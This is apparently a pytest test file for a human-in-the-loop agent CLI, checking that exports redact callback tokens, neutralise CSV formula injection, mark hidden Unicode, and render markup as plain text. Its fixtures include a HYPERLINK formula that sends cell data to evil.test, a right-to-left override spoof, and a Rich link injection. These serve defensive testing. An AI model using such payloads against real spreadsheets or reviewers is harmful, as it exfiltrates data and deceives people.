"""What ``hitl-agent requests`` and ``hitl-agent review`` print is safe to read and to share
(issue 21, S7): no callback capability token in any format, CSV cells a spreadsheet cannot run
and that hide no character, and the gate's escaped markdown shown as readable plain text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from hitl_agent._plain import markdown_to_plain
from hitl_agent.cli._api import csv_cell
from hitl_agent.cli._review import ReviewerSeam, review
from hitl_agent.langchain._render import render_question

from .conftest import Cli

TOKEN = "c0" * 32  # a gate's callback token: the last segment of callback_url
HOOK = f"https://receiver.test/hitl/{TOKEN}"
FORMULA = '=HYPERLINK("https://evil.test/?d="&A1,"click")'
# What the gate sends for ask_human("Is it OK to charge the customer's card?").
ESCAPED = render_question("Is it OK to charge the customer's card.")
PLAIN = "Is it OK to charge the customer's card."


def _records(cli: Cli, *args: str) -> list[dict[str, object]]:
    result = cli("requests", *args, "--format", "json")
    assert result.exit_code == 0, result.output
    assert TOKEN not in result.output
    loaded = json.loads(result.output)
    return loaded if isinstance(loaded, list) else [loaded]


def test_no_format_prints_the_callback_token(cli: Cli, tmp_path: object) -> None:
    request_id = cli.create(callback_url=HOOK)
    cli.create()
    for records in (
        _records(cli, "export"),
        _records(cli, "list"),
        _records(cli, "get", request_id),
    ):
        shown = {r["id"]: r["callback_url"] for r in records}
        assert shown[request_id] == "https://receiver.test/hitl/<redacted>"
    for fmt in ("csv", "table"):
        for command in (("export",), ("list",), ("get", request_id)):
            if command == ("export",) and fmt == "table":
                continue
            result = cli("requests", *command, "--format", fmt)
            assert result.exit_code == 0, result.output
            assert TOKEN not in result.output, (command, fmt)


def test_csv_cells_are_formula_safe_and_hide_nothing(cli: Cli) -> None:
    formula = cli.create(request_text=FORMULA)
    bidi = cli.create(request_text="refund \u202e01$ ot")
    result = cli("requests", "export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.output))}
    assert rows[formula]["request_text"] == "'" + FORMULA
    assert rows[bidi]["request_text"] == "refund ⟦U+202E⟧01$ ot"
    assert "\u202e" not in result.output


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "⟦U+000D⟧=1"),  # the CR is marked, which also disarms the formula
        ("-5", "-5"),  # a plain number is no formula
        ("-1.5e-3", "-1.5e-3"),
        ("a=b", "a=b"),
        (None, ""),
        (-7, "-7"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_terminal_views_show_the_gates_markdown_as_plain_text(cli: Cli) -> None:
    assert "customer\\'s card\\." in ESCAPED  # what the gate stores
    short = cli.create(request_text="customer\\'s card\\.")
    table = cli("requests", "list")
    assert "customer's card." in table.output and "\\'" not in table.output
    cli("requests", "cancel", short)
    request_id = cli.create(request_text=ESCAPED)
    got = cli("requests", "get", request_id)
    assert PLAIN in got.output and "\\'" not in got.output
    exported = cli("requests", "export", "--format", "csv").output
    row = {r["id"]: r for r in csv.DictReader(io.StringIO(exported))}[request_id]
    assert PLAIN in row["request_text"] and "\\" not in row["request_text"]
    # The reviewer's terminal too.
    result = CliRunner().invoke(
        review,
        ["--base-url", cli.hitl.base_url, "--token", cli.hitl.credentials.reviewer_token, "--once"],
        input="1\nn\n",
        obj=ReviewerSeam(http_client=cli.hitl.http),
    )
    assert result.exit_code == 0, result.output
    assert PLAIN in result.output and "\\'" not in result.output


def test_a_table_cell_is_text_not_rich_markup(cli: Cli) -> None:
    cli.create(request_text="[link=https://evil.test]click[/link] [bold]loud[/bold]")
    out = cli("requests", "list").output
    assert "[link=https://evil.test]click[/link]" in out
    assert "\x1b]8;" not in out  # no terminal hyperlink


def test_markdown_to_plain() -> None:
    text = (
        "**Approve tool call:** ` refund `\\\n**Asked by:** an AI agent \\(thread t\\-1\\)\n\n"
        '```json\n{"note": "a \\\\ b"}\n```\n\n- one\n- two\n\n[docs](javascript:x) '
        "![px](https://t.test/p.png) <b>raw</b> \u202e"
    )
    assert markdown_to_plain(text) == (
        "Approve tool call: refund\nAsked by: an AI agent (thread t-1)\n\n"
        '{"note": "a \\\\ b"}\n\n- one\n- two\n\n'
        "docs ⟨javascript:x⟩ [image: px — https://t.test/p.png] <b>raw</b> ⟦U+202E⟧"
    )


def test_review_shows_option_descriptions_with_invisibles_marked(cli: Cli) -> None:
    cli.create(
        request_text="Run it?",
        response_type="single_select",
        response_config={
            "options": [
                {"value": "approve", "label": "Approve", "description": "Runs once\u202e."},
                {"value": "reject", "label": "Reject"},
            ]
        },
        default_response="reject",
    )
    result = CliRunner().invoke(
        review,
        ["--base-url", cli.hitl.base_url, "--token", cli.hitl.credentials.reviewer_token, "--once"],
        input="1\n2\n",
        obj=ReviewerSeam(http_client=cli.hitl.http),
    )
    assert result.exit_code == 0, result.output
    assert "1) Approve  [approve] — Runs once⟦U+202E⟧." in result.output
    assert "If nobody answers in time: the request times out; its default answer is Reject" in (
        result.output
    )
